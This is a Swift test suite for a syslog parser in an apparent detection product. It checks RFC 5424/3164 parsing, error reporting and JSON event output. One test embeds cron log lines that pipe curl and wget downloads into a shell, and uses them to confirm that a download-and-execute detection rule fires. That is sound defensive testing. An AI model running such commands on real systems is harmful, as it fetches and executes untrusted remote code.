import Foundation
import Testing
import TocsinDetection

@testable import TocsinServer

/// The JSON object in `text`, for comparing events by value.
func jsonObject(_ text: String) -> [String: Any] {
    (try? JSONSerialization.jsonObject(with: Data(text.utf8))) as? [String: Any] ?? [:]
}

@Suite("Syslog: parsing RFC 5424 and RFC 3164")
struct SyslogMessageTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        var bytes: [UInt8]
        var expected: SyslogMessage
        var testDescription: String { name }
    }

    static let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
    /// 2026-11-19T00:00:00Z.
    static let received = Date(timeIntervalSince1970: 1_795_046_400)

    static let cases: [Case] = [
        Case(
            name: "5424 with structured data, escapes and a BOM",
            bytes: Array(
                (#"<165>1 2026-11-20T09:00:00.003Z host.example evntslog 77 ID47 "#
                    + #"[exampleSDID@32473 iut="3" eventSource="App\"lication\]" path="C:\\x\y"][meta seq="1"] "#).utf8)
                + bom + Array("An application event\n".utf8),
            expected: SyslogMessage(
                format: .rfc5424, facility: 20, severity: 5, timestamp: "2026-11-20T09:00:00.003Z",
                hostname: "host.example", appName: "evntslog", processID: "77", messageID: "ID47",
                structuredData: [
                    .init(
                        id: "exampleSDID@32473",
                        parameters: [("iut", "3"), ("eventSource", #"App"lication]"#), ("path", #"C:\x\y"#)]),
                    .init(id: "meta", parameters: [("seq", "1")]),
                ],
                body: Array("An application event".utf8))),
        Case(
            name: "5424 with nil values and no message",
            bytes: Array("<34>1 - - - - - -".utf8),
            expected: SyslogMessage(
                format: .rfc5424, facility: 4, severity: 2, timestamp: nil, hostname: nil, appName: nil,
                processID: nil, messageID: nil, body: [])),
        Case(
            name: "5424 with an offset timestamp",
            bytes: Array("<13>1 2026-11-20T10:00:00+01:00 dc01 sshd 4242 - - Accepted password".utf8),
            expected: SyslogMessage(
                format: .rfc5424, facility: 1, severity: 5, timestamp: "2026-11-20T10:00:00+01:00", hostname: "dc01",
                appName: "sshd", processID: "4242", messageID: nil, body: Array("Accepted password".utf8))),
        Case(
            name: "3164 with host, tag and pid",
            bytes: Array("<34>Oct 11 22:14:15 mymachine su[230]: 'su root' failed for lonvick on /dev/pts/8".utf8),
            expected: SyslogMessage(
                format: .rfc3164, facility: 4, severity: 2, timestamp: "Oct 11 22:14:15", hostname: "mymachine",
                appName: "su", processID: "230", messageID: nil,
                body: Array("'su root' failed for lonvick on /dev/pts/8".utf8))),
        Case(
            name: "3164 with a space-padded day and no hostname",
            bytes: Array("<13>Nov  5 01:02:03 cron: job done\r\n".utf8),
            expected: SyslogMessage(
                format: .rfc3164, facility: 1, severity: 5, timestamp: "Nov  5 01:02:03", hostname: nil,
                appName: "cron", processID: nil, messageID: nil, body: Array("job done".utf8))),
    ]

    @Test(arguments: cases) func parses(_ example: Case) throws {
        #expect(try SyslogMessage.parse(example.bytes).get() == example.expected)
    }

    @Test(
        arguments: [
            ("hello world", 1, "expected '<' and a priority such as <34>: a syslog message starts with one"),
            ("<999>1 - - - - - -", 2, "the priority 999 is over 191 (facility 23, severity 7)"),
            ("<34", 4, "expected a priority of 1 to 3 digits closed by '>', such as <34>"),
            (
                "<34>hello", 5,
                "expected the RFC 5424 version '1 ' or an RFC 3164 timestamp such as 'Oct 11 22:14:15'"
                    + " after the priority"
            ),
            ("<34>2 - - - - - -", 5, "RFC 5424 version 2 is not supported; only 1 is"),
            (
                "<34>1 yesterday h a p m -", 7,
                "expected TIMESTAMP in RFC 3339 form such as 2026-11-20T09:00:00.000Z, or '-'"
            ),
            ("<34>1 - h a p m", 16, "the header ends before STRUCTURED-DATA: write '-' when there is none"),
            (#"<34>1 - h a p m [id k="v] msg"#, 23, "the value of k is not closed by '\"'"),
            (#"<34>1 - h a p m [id k=v]"#, 23, "expected '\"' to open the value of k"),
            ("<34>Oct 11 2:14:15 host x", 5, "expected an RFC 3164 timestamp such as 'Oct 11 22:14:15'"),
        ] as [(String, Int, String)])
    func refuses(_ text: String, column: Int, message: String) {
        #expect(SyslogMessage.parse(Array(text.utf8)) == .failure(SyslogParseError(column: column, message: message)))
    }

    @Test func everyPrefixOfAMessageParsesOrIsRefusedWithAColumnInsideIt() {
        for example in Self.cases {
            for end in 0...example.bytes.count {
                let prefix = Array(example.bytes[..<end])
                if case .failure(let error) = SyslogMessage.parse(prefix) {
                    #expect((1...max(1, end + 1)).contains(error.column), "\(example.name), \(end) bytes")
                }
            }
        }
    }

    @Test func aJSONBodyIsTheEventAsIs() throws {
        let body = #"{"EventID":4625,"TargetUserName":"admin","Computer":"dc01"}"#
        let message = try SyslogMessage.parse(
            Array("<14>1 - dc01 winlogbeat - - - ".utf8) + Self.bom + Array(body.utf8)
        )
        .get()
        #expect(message.eventJSON(receivedAt: Self.received) == body)
    }

    @Test func aTextBodyBecomesAnEventWithTheHeaderFields() throws {
        let message = try SyslogMessage.parse(
            Array(#"<165>1 2026-11-20T09:00:00Z h a 1 m [x@1 k="v\"q"] say "hi"\#t{not json"#.utf8)
        ).get()
        let json = message.eventJSON(receivedAt: Self.received)
        #expect(
            json == #"{"timestamp":"2026-11-20T09:00:00Z","host":"h","service":"syslog","program":"a","pid":1,"#
                + #""msgid":"m","facility":"local4","severity":"notice","structured_data":{"x@1":{"k":"v\"q"}},"#
                + #""message":"say \"hi\"\t{not json","syslog_format":"rfc5424"}"#)
        #expect(jsonObject(json)["message"] as? String == "say \"hi\"\t{not json")
    }

    @Test func controlCharactersAndInvalidUTF8StillGiveValidJSON() throws {
        let message = try SyslogMessage.parse(Array("<13>Oct 11 22:14:15 host app: a\u{1}b".utf8) + [0xFF]).get()
        let event = jsonObject(message.eventJSON(receivedAt: Self.received))
        #expect(event["message"] as? String == "a\u{1}b\u{FFFD}")
        #expect(event["host"] as? String == "host")
    }

    @Test func aCronLineOverSyslogFiresThePacksCronRule() throws {
        // The rule pack's own file, read from the source tree: its fields are what the listener must produce.
        let rulePath = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent(
                "Sources/TocsinCommands/Resources/rules/linux/persistence/cron_download_execute_syslog.yml")
        let parsed = RuleParser.parse(try String(contentsOf: rulePath, encoding: .utf8), path: rulePath.path)
        #expect(parsed.rules.count == 1)
        let engine = DetectionEngine(rules: parsed.rules, pipeline: try Pipeline.builtinWindows())
        let worker = engine.makeWorker()
        func fires(_ line: String) throws -> Bool {
            var event = try SyslogMessage.parse(Array(line.utf8)).get().eventJSON(receivedAt: Self.received)
            var fired: [Int] = []
            try event.withUTF8 { try worker.match($0, into: &fired) }
            return !fired.isEmpty
        }
        #expect(try fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://203.0.113.9/u.sh | bash)"))
        #expect(try fires("<78>1 2026-11-20T09:00:00Z db01 cron 4242 - - (root) CMD (wget -qO- http://x/u | sh)"))
        #expect(try !fires("<78>Nov 20 09:00:00 db01 CRON[4242]: (root) CMD (curl -s http://x/u | sha256sum)"))
    }

    @Test(
        arguments: [
            ("Nov 20 09:00:00", 1_795_046_400, "2026-11-20T09:00:00"),
            ("Nov  5 01:02:03", 1_795_046_400, "2026-11-05T01:02:03"),
            // Read on New Year's Day 2027: December is last year's.
            ("Dec 31 23:59:59", 1_798_761_600, "2026-12-31T23:59:59"),
        ] as [(String, Int, String)])
    func anRFC3164TimestampGetsTheYearItWasMostLikelyWrittenIn(_ stamp: String, received: Int, expected: String) throws
    {
        let message = try SyslogMessage.parse(Array("<13>\(stamp) host app: x".utf8)).get()
        let event = jsonObject(message.eventJSON(receivedAt: Date(timeIntervalSince1970: Double(received))))
        #expect(event["timestamp"] as? String == expected)
    }
}
